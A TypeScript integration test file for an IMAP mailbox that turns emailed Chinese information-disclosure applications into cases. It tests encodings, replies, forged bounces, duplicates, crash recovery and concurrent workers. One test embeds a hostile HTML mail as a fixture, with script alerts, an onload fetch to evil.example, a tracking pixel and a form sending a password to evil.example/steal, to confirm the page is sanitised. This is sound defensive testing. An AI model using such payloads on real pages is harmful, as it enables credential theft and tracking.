/** The mailbox against a real IMAP server: each mail once and in its place, whatever happens in between. */
import { spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { openBox } from '../../src/ground/imap.ts'
import { boxNamed } from '../../src/ground/imap-set.ts'
import { overAll } from '../../src/house.ts'
import type { Repeated } from '../../src/jobs/every.ts'
import { forgetMails } from '../../src/mailbox/forget.ts'
import { takeMails } from '../../src/mailbox/take.ts'
import { watchMailbox } from '../../src/mailbox/watch.ts'
import { type Dovecot, startDovecot } from '../support/dovecot.ts'
import { MONDAY, type Office, openOffice } from '../support/house.ts'
import { type MailServer, startMailServer } from '../support/smtp.ts'
import type { Place } from './taking.ts'
import { attached, bounce, GBK, headOf, nested, parted, plain, raw, winmail, word, words } from './written.ts'

const AT = new Date(`${MONDAY}T08:30:00+08:00`)
const always = async () => true

let smtp: MailServer
let dovecot: Dovecot
let office: Office
beforeAll(async () => {
  smtp = await startMailServer()
  dovecot = await startDovecot()
  office = await openOffice({ smtpUrl: smtp.url, settings: { IMAP_URL: dovecot.url } })
})
let watching: (Repeated | undefined)[] = []
afterEach(async () => {
  for (const one of watching) await one?.stop()
  watching = []
})
afterAll(async () => {
  await office.close()
  await dovecot.close()
  await smtp.close()
})

/** Takes what lies there, as a worker does, and does the jobs that follow. */
async function looks(): Promise<number> {
  const { imap } = office.house.config
  const box = await openBox(imap!)
  try {
    const taken = await takeMails(overAll(office.house), boxNamed(imap!), box, always)
    await office.theJobsRun()
    return taken
  } finally {
    await box.close()
  }
}
const comes = async (source: Buffer, at = AT) => {
  await dovecot.receives(source, at)
  await looks()
  const [row] = await office.sql`select * from mails order by uid desc limit 1`
  return row as unknown as { id: string; state: string; why: string | null; caseId: string; fault: string | null }
}
const page = async (who: Office['registrar'], url = '/mailbox') => who.gets(url)
const decides = (id: string, act: string) => office.registrar.posts(`/mailbox/${id}`, '', { act })

test('an application in GBK with a nested mail and winmail.dat becomes a case, as it came, and is answered once', async () => {
  const dat = winmail('另附说明。', [{ name: '授权委托书.docx', content: Buffer.from('委托') }])
  const source = parted({ From: `${word(GBK.name, 'gbk')} <wangfang@example.cn>`, Subject: GBK.title }, [
    words('申请公开征收补偿方案。'),
    nested(plain({ Subject: word('往来邮件') }, '此前的邮件。')),
    attached('winmail.dat', dat),
  ])
  const { state, caseId } = await comes(source)
  expect(state).toBe('filed')
  const opened = await office.registrar.opens(caseId)
  expect(opened).toMatchObject({ stage: 'receive', title: '政府信息公开申请', applicantName: '王芳' })
  const [submitted] = opened.facts
  expect(submitted).toMatchObject({ type: 'submitted', on: MONDAY, channel: 'email', by: 'applicant' })
  expect(submitted.applicant).toMatchObject({ name: '王芳', email: 'wangfang@example.cn' })
  expect(submitted.evidence).toMatch(/邮件服务器于2026年3月2日.*收到.*自称的发送时间：Mon, 02 Mar 2026 08:00:00/)
  expect(submitted.request.description).toContain('申请公开征收补偿方案。')
  expect(opened.files.map(({ name }: { name: string }) => name)).toEqual([
    '来件原文-2026-03-02.eml',
    '附件1.eml',
    'winmail.dat',
    '授权委托书.docx',
  ])
  const eml = await office.registrar.gets(opened.files[0].url)
  expect(eml.bytes ?? Buffer.from(eml.text)).toHaveLength(opened.files[0].size)
  expect(opened.missing.map(({ field }: { field: string }) => field)).toContain('applicant.idNumber')
  // One answer, without the code: it names what is missing, and the number to which an answer goes.
  const [answer, ...others] = smtp.mails.filter(({ envelope }) => envelope.to.includes('wangfang@example.cn'))
  expect(others).toEqual([])
  expect(answer!.subject).toContain(opened.receipt)
  expect(answer!.text).toMatch(/还缺少以下内容.*身份证件号码/)
  expect(answer!.text).toContain('查询码不以邮件发送')
  expect(await looks()).toBe(0)
})

test('an answer is put on file of its case if it comes from the applicant; of another it is proposed, and a person decides', async () => {
  const first = await comes(plain({ From: 'zhaoliu@example.cn', 'Message-ID': '<first@example.cn>' }))
  const { receipt } = await office.registrar.opens(first.caseId)
  const ours = smtp.mails.at(-1)!
  const reply = (head: object, body: string) =>
    comes(plain({ From: 'zhaoliu@example.cn', Subject: 'Re: application', ...head }, body))
  const filesOf = async () => (await office.registrar.opens(first.caseId)).files.length
  // By the Message-ID of our mail, by that of their own, by our number in the subject.
  expect(await reply({ 'In-Reply-To': ours.messageId! }, '补充身份证件号码。')).toMatchObject({
    ...{ state: 'attached', caseId: first.caseId },
  })
  // Who answers our mail has it; a number and an address are known to others as well: a person looks first.
  const theirs = await reply({ References: '<x@y.cn> <first@example.cn>' }, '再补充。')
  const numbered = await reply({ Subject: `Re: ${receipt}` }, '又补充。')
  for (const one of [theirs, numbered])
    expect(one).toMatchObject({ state: 'proposed', why: 'address', caseId: first.caseId })
  expect(await filesOf()).toBe(2)
  const said = '有2封来件以发件地址和编号对上本件'
  expect((await page(office.registrar, `/cases/${first.caseId}`)).text).toContain(said)
  const waiting = (await office.registrar.gets('/api/v1/mailbox')).json
  expect(waiting.mails.map(({ id }: { id: string }) => id)).toEqual(expect.arrayContaining([theirs.id, numbered.id]))
  expect(waiting.mails.find(({ id }: { id: string }) => id === theirs.id)).toMatchObject({
    ...{ from: 'zhaoliu@example.cn', state: 'proposed', why: 'address', case: { id: first.caseId, receipt } },
  })
  expect((await office.handler.gets('/api/v1/mailbox')).status).toBe(403)
  expect((await office.registrar.gets('/api/v1/mailbox?before=x')).status).toBe(422)
  for (const { id } of [theirs, numbered]) expect((await decides(id, 'attach')).status).toBe(303)
  expect(await filesOf()).toBe(4)
  expect((await page(office.registrar, `/cases/${first.caseId}`)).text).not.toContain('等待登记人员核对')
  const added = (await office.registrar.opens(first.caseId)).facts.filter(
    ({ type }: { type: string }) => type === 'fileAdded',
  )
  expect(added).toHaveLength(3)
  expect(added[0]).toMatchObject({ by: 'system', on: MONDAY, evidence: expect.stringContaining('邮件服务器') })
  expect(added.map(({ by }: { by: string }) => by)).toEqual(['system', 'staff:registrar', 'staff:registrar'])

  const strange = await reply({ From: 'someone@example.cn', 'In-Reply-To': ours.messageId! }, '我是他的朋友。')
  expect(strange).toMatchObject({ state: 'proposed', why: 'sender', caseId: first.caseId })
  const shown = await page(office.registrar, `/mailbox/${strange.id}`)
  expect(shown.text).toContain('我是他的朋友。')
  expect(shown.text).toContain('发件地址可以伪造')
  expect((await decides(strange.id, 'attach')).status).toBe(303)
  expect(await filesOf()).toBe(5)
  // Decided once.
  expect((await decides(strange.id, 'file')).status).toBe(409)
  const other = await reply({ From: 'advert@example.cn', Subject: `${receipt}` }, '代写申请。')
  expect((await decides(other.id, 'aside')).status).toBe(303)
  const [decided] = await office.sql`select state, why, by from mails where id = ${other.id}`
  expect(decided).toEqual({ state: 'aside', why: 'byHand', by: 'staff:registrar' })
})

test('a mail of ours that came back is shown on its case as one that nobody has', async () => {
  const { caseId } = await comes(plain({ From: 'gone@example.cn' }))
  const ours = smtp.mails.at(-1)!
  expect(await comes(bounce(ours.messageId!, 'gone@example.cn'))).toMatchObject({ state: 'returned', caseId })
  const shown = (await office.registrar.gets(`/cases/${caseId}`)).text
  expect(shown).toContain('退信，对方邮件系统的说明：smtp; 550 5.1.1')
  const [delivery] = await office.sql`
    select returned_at, failure from deliveries where case_id = ${caseId} and returned_at is not null`
  expect(delivery).toMatchObject({ returnedAt: expect.anything() })
  expect(delivery!.failure).not.toContain('gone@example.cn')
  expect(await comes(bounce('<nobody.1.x@example.gov.cn>', 'a@example.cn'))).toMatchObject({ why: 'unknownBounce' })
})

test('what anybody could write marks no mail as returned: a registrar decides, and of one case alone', async () => {
  const { caseId } = await comes(plain({ From: 'here@example.cn' }))
  const other = await comes(plain({ From: 'there@example.cn' }))
  const [ours, theirs] = ['here@example.cn', 'there@example.cn'].map(
    (address) => smtp.mails.find(({ envelope }) => envelope.to.includes(address))!.messageId!,
  )
  const returned = async (id: string) =>
    (await office.sql`select 1 from deliveries where case_id = ${id} and returned_at is not null`).length
  // Without a report that says so, though it names our mail.
  const said = `您的邮件被退回，请拨打 010-0000-0000。\r\nMessage-ID: ${ours}\r\nMessage-ID: ${theirs}\r\n`
  const forged = await comes(plain({ From: 'mailer-daemon@evil.example', 'Return-Path': '<>' }, said))
  expect(forged).toMatchObject({ state: 'proposed', why: 'bounce' })
  // By an id as they were before, which follows from the number of the case.
  const old = ours!.replace(/\+[\w-]{22}@/, '@')
  await office.sql`update deliveries set message_id = ${old} where message_id = ${ours!}`
  const computed = await comes(bounce(old, 'here@example.cn'))
  expect(computed).toMatchObject({ state: 'proposed', why: 'bounce', caseId })
  expect([await returned(caseId), await returned(other.caseId)]).toEqual([0, 0])
  expect((await page(office.registrar, `/mailbox/${computed.id}`)).text).toContain('确认是退信')
  expect((await decides(computed.id, 'attach')).status).toBe(303)
  expect([await returned(caseId), await returned(other.caseId)]).toEqual([1, 0])
  const [row] = await office.sql`select state, by from mails where id = ${computed.id}`
  expect(row).toEqual({ state: 'returned', by: 'staff:registrar' })
})

test('what may be an application waits in the open heap, of whatever sender, and is filed by hand', async () => {
  for (const [head, why, body] of [
    [{ From: word('王芳') }, 'noSender', '申请公开甲文件。'],
    [{ From: 'postmaster@company.example' }, 'machine', '申请公开乙文件。'],
    [{ From: 'w@example.cn', 'List-Unsubscribe': '<https://mail.example/u>' }, 'list', '申请公开丙文件。'],
  ] as const) {
    const row = await comes(plain(head, body))
    expect(row).toMatchObject({ state: 'proposed', why, caseId: null })
    expect((await page(office.registrar)).text).toContain(`/mailbox/${row.id}`)
    const shown = (await page(office.registrar, `/mailbox/${row.id}`)).text
    expect(shown).toContain(body)
    expect(shown).not.toContain('value="attach"')
    expect((await decides(row.id, 'attach')).status).toBe(404)
    expect((await decides(row.id, 'file')).status).toBe(303)
    const [after] = await office.sql`select state, case_id from mails where id = ${row.id}`
    expect(after).toMatchObject({ state: 'filed', caseId: expect.any(String) })
  }
})

test('under the Message-ID of another mail something else is not lost: it waits for a person', async () => {
  const head = { From: 'mine@example.cn', 'Message-ID': '<taken@example.cn>' }
  const first = await comes(plain(head, '我的申请。'))
  const stranger = await comes(plain({ ...head, From: 'someone.else@example.cn' }, '另一件申请。'))
  expect(stranger).toMatchObject({ state: 'proposed', why: 'sameId', caseId: first.caseId })
})

test('a mail is here before anybody reads it; over which a process ended three times is read by nobody, and filed', async () => {
  const { imap } = office.house.config
  const house = overAll(office.house)
  await dovecot.receives(plain({ From: 'ends@example.cn' }, '读到一半就停了。'), AT)
  const box = await openBox(imap!)
  let asked = 0
  await takeMails(house, boxNamed(imap!), box, async () => ++asked < 2) // it stops when all is taken, and nothing read
  await box.close()
  const row = async () => (await office.sql`select * from mails order by uid desc limit 1`)[0]!
  expect(await row()).toMatchObject({ state: 'taken', sealed: null, contentDigest: null, tries: 0 })
  await office.sql`update mails set tries = 3 where id = ${(await row()).id}`
  await looks()
  const { state, sealed, caseId } = await row()
  expect([state, sealed]).toEqual(['filed', null])
  expect((await office.registrar.opens(caseId)).title).toBe('（邮件没有主题）')
})

/** A worker that is killed outright at this place, as by the machine. */
async function isKilledAt(place: Place): Promise<void> {
  const { databaseUrl, config } = office.house
  const env = {
    ...{ ...process.env, DATABASE_URL: databaseUrl, DATA_DIR: office.folder, IMAP_URL: dovecot.url },
    ...{ SECRET_KEY: 'a secret of the tests, and of nobody else', MAIL_FROM: config.mailFrom },
    ...{ PUBLIC_URL: config.publicUrl, SMTP_URL: smtp.url },
  }
  const child = spawn(process.execPath, ['--import', 'tsx', 'test/mailbox/taking.ts', place], { env })
  const errors: string[] = []
  child.stderr.on('data', (text) => errors.push(String(text)))
  const gone = once(child, 'exit')
  await Promise.race([once(child.stdout, 'data'), gone.then(() => Promise.reject(new Error(errors.join(''))))])
  child.kill('SIGKILL')
  await gone
}

test('killed outright in the middle of taking, wherever it stood: nothing is lost and nothing doubled', async () => {
  const before = (await office.sql`select count(*)::int as n from cases`)[0]!.n
  for (const [i, place] of (['stored', 'committed', 'reading'] as const).entries()) {
    for (const n of [1, 2]) await dovecot.receives(plain({ From: `killed${i}.${n}@example.cn` }, `第${i}.${n}件。`), AT)
    await isKilledAt(place)
    await looks()
  }
  const rows = await office.sql`select state, case_id from mails order by uid desc limit 6`
  expect(rows.map(({ state }) => state)).toEqual(Array(6).fill('filed'))
  expect(new Set(rows.map(({ caseId }) => caseId)).size).toBe(6)
  expect((await office.sql`select count(*)::int as n from cases`)[0]!.n - before).toBe(6)
  expect(await looks()).toBe(0)
})

test('an evil page of a mail is shown as its words: nothing of it runs, is fetched or is sent', async () => {
  const evil = [
    '<html><head><title>t</title><script>alert(1)</script><style>@import "https://evil.example/s.css"</style></head>',
    '<body onload="fetch(`//evil.example`)"><p>申请公开甲文件。</p><img src="https://evil.example/pixel.gif">',
    '<form action="https://evil.example/steal"><input name="password"><button>登录</button></form>',
    '<iframe src="javascript:alert(2)"></iframe><svg><script>alert(3)</script></svg>&lt;script&gt;alert(4)&lt;/script&gt;</body></html>',
  ].join('')
  const html = raw(headOf({ From: 'evil@example.cn', 'Content-Type': 'text/html; charset=utf-8' }), evil)
  const { id, state } = await comes(html)
  expect(state).toBe('filed')
  const shown = await page(office.registrar, `/mailbox/${id}`)
  expect(shown.text).toContain('申请公开甲文件。')
  expect(shown.text).toContain('&lt;script>alert(4)')
  for (const trace of ['evil.example', 'alert(1)', 'alert(2)', 'alert(3)', '<iframe', 'name="password"', '<img'])
    expect(shown.text, trace).not.toContain(trace)
  expect(String(shown.headers['content-security-policy'])).toMatch(/default-src 'none'|script-src 'self'/)
})

test('the same again is set aside, under the same id or another one, and a person can file it all the same', async () => {
  const head = { From: 'twice@example.cn', 'Message-ID': '<twice@example.cn>' }
  const first = await comes(plain(head))
  expect(await comes(plain({ ...head, Received: 'from another.way' }))).toMatchObject({
    state: 'aside',
    why: 'duplicate',
  })
  const again = await comes(plain({ From: 'twice@example.cn' }))
  expect(again).toMatchObject({ state: 'aside', why: 'duplicate', caseId: first.caseId })
  const mailed = smtp.mails.filter(({ envelope }) => envelope.to.includes('twice@example.cn'))
  expect(mailed).toHaveLength(1)
  expect((await decides(again.id, 'file')).status).toBe(303)
  const [row] = await office.sql`select state, case_id from mails where id = ${again.id}`
  expect(row).toMatchObject({ state: 'filed', caseId: expect.not.stringContaining(first.caseId) })
})

test('thirty megabytes, a broken envelope and bytes that nobody reads: on file whole', async () => {
  const large = randomBytes(22 * 1024 * 1024)
  const one = await comes(parted({ From: 'large@example.cn' }, [words('附图。'), attached('图纸.zip', large)]))
  const { files } = await office.registrar.opens(one.caseId)
  expect(files.map(({ size }: { size: number }) => size)).toEqual([expect.any(Number), large.length])
  expect(files[0].size).toBeGreaterThan(30_000_000)
  const cut = parted({ From: 'cut@example.cn' }, [words('开头。'), attached('附.txt', randomBytes(3_000))])
  expect(await comes(cut.subarray(0, cut.length - 2_000))).toMatchObject({ state: 'filed' })
  const deep = Array.from({ length: 80 }).reduce<Buffer>(
    (inner, _, i) => {
      const line = `l${i}`
      const part = Buffer.concat([Buffer.from(`--${line}\r\n`), inner, Buffer.from(`\r\n--${line}--\r\n`)])
      return raw({ 'Content-Type': `multipart/mixed; boundary="${line}"` }, part)
    },
    raw({ 'Content-Type': 'text/plain' }, 'x'),
  )
  const unread = await comes(Buffer.concat([Buffer.from('From: deep@example.cn\r\nSubject: deep\r\n'), deep]))
  expect(unread).toMatchObject({ state: 'filed' })
  expect((await office.registrar.opens(unread.caseId)).title).toBe('（邮件没有主题）')
})

test('what fails stands on the page with its reason, and is tried again by hand; who reads no cases sees numbers alone', async () => {
  await dovecot.receives(plain({ From: 'fails@example.cn', Subject: 'fails' }), AT)
  await office.sql`alter table deadlines rename to deadlines_away`
  try {
    await looks()
  } finally {
    await office.sql`alter table deadlines_away rename to deadlines`
  }
  const failed = (await page(office.registrar)).text
  expect(failed).toMatch(/fails[\s\S]*识别失败[\s\S]*deadlines/)
  const admin = await page(office.staff('admin'))
  expect(admin.text).toContain('有1封邮件没有识别成功')
  expect(admin.text).not.toContain('fails@example.cn')
  expect((await page(office.handler)).status).toBe(403)
  expect((await office.staff('admin').posts('/mailbox/again', '', {})).status).toBe(303)
  await office.theJobsRun()
  const [row] = await office.sql`select state, fault from mails order by uid desc limit 1`
  expect(row).toEqual({ state: 'filed', fault: null })
})

test('two hundred mails, a mark that fails and two that watch at once: none lost, none doubled', async () => {
  const before = (await office.sql`select count(*)::int as n from mails`)[0]!.n
  const people = Array.from({ length: 120 }, (_, i) =>
    plain({ From: `p${i}@example.cn`, Subject: i % 2 ? word(`申请${i}`) : GBK.title }, `申请第${i}项信息。`),
  )
  const machines = Array.from({ length: 40 }, (_, i) =>
    plain(
      {
        From: `m${i}@example.cn`,
        ...[{ 'Auto-Submitted': 'auto-replied' }, { Precedence: 'bulk' }, { 'List-Id': '<l>' }][i % 3],
      },
      `${i}`,
    ),
  )
  const doubles = people.slice(0, 20).map((source) => Buffer.concat([Buffer.from('X-Way: another\r\n'), source]))
  const bounces = Array.from({ length: 20 }, (_, i) => bounce(`<unknown.${i}@example.gov.cn>`, `b${i}@example.cn`))
  for (const source of [...people, ...machines, ...doubles, ...bounces]) await dovecot.receives(source, AT)

  // Stopped between what is committed and its mark, again and again.
  const { imap } = office.house.config
  const house = overAll(office.house)
  for (const stopsAfter of [1, 7, 30]) {
    const box = await openBox(imap!)
    let marks = 0
    const mark = async (uid: number) => {
      if (++marks === stopsAfter) throw new Error('killed')
      return box.mark(uid)
    }
    await expect(takeMails(house, boxNamed(imap!), { ...box, mark }, always)).rejects.toThrow('killed')
    await box.close()
  }
  // Two processes, of which one holds the mailbox; and one that believes that it still does.
  watching = [watchMailbox(office.house, 100), watchMailbox(office.house, 100)]
  const taken = async () => (await office.sql`select count(*)::int as n from mails`)[0]!.n - before
  await expect.poll(taken).toBe(200)
  const unread = async () =>
    (await office.sql`select 1 from mails where state = 'taken' and content_digest is null`).length
  await expect.poll(unread).toBe(0)
  for (const one of watching) await one?.stop()
  watching = []
  await office.theJobsRun()
  const states = await office.sql`
    select state, coalesce(why, '') as why, count(*)::int as n from (select * from mails order by uid desc limit 200) m
    group by 1, 2 order by 1, 2`
  expect(states.map(({ state, why, n }) => [state, why, n])).toEqual([
    ['aside', 'automatic', 14],
    ['aside', 'duplicate', 20],
    ['aside', 'unknownBounce', 20],
    ['filed', '', 120],
    ['proposed', 'list', 26],
  ])
  const opened = await office.sql`
    select title from cases where id in (select case_id from mails where state = 'filed' order by uid desc limit 120)`
  expect(opened).toHaveLength(120)
  const cases = async () => (await office.sql`select 1 from cases`).length
  const all = await cases()
  expect(await looks()).toBe(0)
  expect(await cases()).toBe(all)
})

test('a mail that comes while somebody watches is taken by its news; a server that is away is named, and come back to', async () => {
  watching = [watchMailbox(office.house, 100)]
  const { imap } = office.house.config
  const standing = async () =>
    (await office.sql`select fault, looked_at from mailboxes where box = ${boxNamed(imap!)}`)[0]
  await expect.poll(async () => (await standing())?.lookedAt).toBeTruthy()
  await dovecot.receives(plain({ From: 'news@example.cn', Subject: 'news' }), AT)
  const isThere = async () => (await office.sql`select 1 from mails where state = 'taken'`).length
  await expect.poll(isThere).toBe(1)
  const stderr: string[] = []
  const error = console.error
  console.error = (line: string) => void stderr.push(line)
  try {
    await dovecot.stop()
    await expect.poll(async () => (await standing())?.fault).toBeTruthy()
    expect((await page(office.registrar)).text).toContain('邮箱没有接通')
  } finally {
    console.error = error
  }
  // Said once, however often it was tried.
  expect(stderr.filter((line) => line.includes('The mailbox cannot be read')).length).toBeLessThanOrEqual(2)
  for (const line of stderr) expect(line).not.toContain('mailbox-of-the-tests')
  await dovecot.start()
  await expect.poll(async () => (await standing())?.fault).toBeNull()
  await office.theJobsRun()
})

test('what is no application is forgotten after half a year, but for its having come', async () => {
  const { id } = await comes(plain({ From: 'auto@example.cn', 'Auto-Submitted': 'auto-replied' }))
  const [list] = await office.sql<{ id: string }[]>`select id from mails where state = 'proposed' limit 1`
  await office.sql`update mails set taken_at = taken_at - interval '181 days' where id in (${id}, ${list!.id})`
  await forgetMails(office.house)
  const [row] = await office.sql`select sha256, sealed, state from mails where id = ${id}`
  expect(row).toEqual({ sha256: null, sealed: null, state: 'aside' })
  expect((await page(office.registrar, `/mailbox/${id}`)).status).toBe(404)
  // What nobody has looked at is not forgotten.
  expect((await page(office.registrar, `/mailbox/${list!.id}`)).status).toBe(200)
  expect(await looks()).toBe(0)
})

test('settings: a mailbox is named whole, or the start is refused', async () => {
  const { readConfig } = await import('../../src/ground/config.ts')
  const set = (IMAP_URL: string) => () => readConfig({ DATA_DIR: office.folder, IMAP_URL })
  for (const wrong of [
    'imap.example.cn',
    'https://u:p@h/',
    'imaps://h/INBOX',
    'imaps://u@h/',
    'imaps://u:p@h/?since=x',
  ])
    expect(set(wrong), wrong).toThrow('IMAP_URL')
  expect(set('imaps://gk%40example.gov.cn:p%2F%40@imap.example.cn/%E7%94%B3%E8%AF%B7?since=2026-03-01')().imap).toEqual(
    {
      ...{ host: 'imap.example.cn', port: 993, secure: true, inTheClear: false, folder: '申请', since: '2026-03-01' },
      ...{ user: 'gk@example.gov.cn', password: 'p/@' },
    },
  )
})

test('who sent a mail and what it says go with the content of its case', async () => {
  const { id, caseId } = await comes(plain({ From: 'destroyed@example.cn' }, '将要销毁的一件。'))
  const [{ agencyId }] = (await office.sql`select agency_id from cases where id = ${caseId}`) as unknown as [
    { agencyId: string },
  ]
  await office.sql`
    insert into ledger (agency_id, case_id, position, type, "on", open, "by", at, previous_hash, hash)
    values (${agencyId}, ${caseId}, 900, 'wordsErased', '2026-04-13', '{}', 'system', now(), '', '')`
  const [row] = await office.sql`select sealed, sha256, id_digest, content_digest, state from mails where id = ${id}`
  expect(row).toEqual({ sealed: null, sha256: null, idDigest: null, contentDigest: null, state: 'filed' })
})
